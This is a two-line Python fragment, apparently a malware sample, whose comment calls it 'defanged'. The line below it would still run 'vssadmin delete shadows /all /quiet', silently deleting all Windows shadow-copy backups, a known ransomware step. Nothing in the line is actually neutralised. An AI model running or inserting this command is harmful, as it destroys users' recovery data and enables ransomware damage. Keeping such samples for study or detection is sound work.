# defanged sample
subprocess.run('vssadmin delete shadows /all /quiet', shell=True)
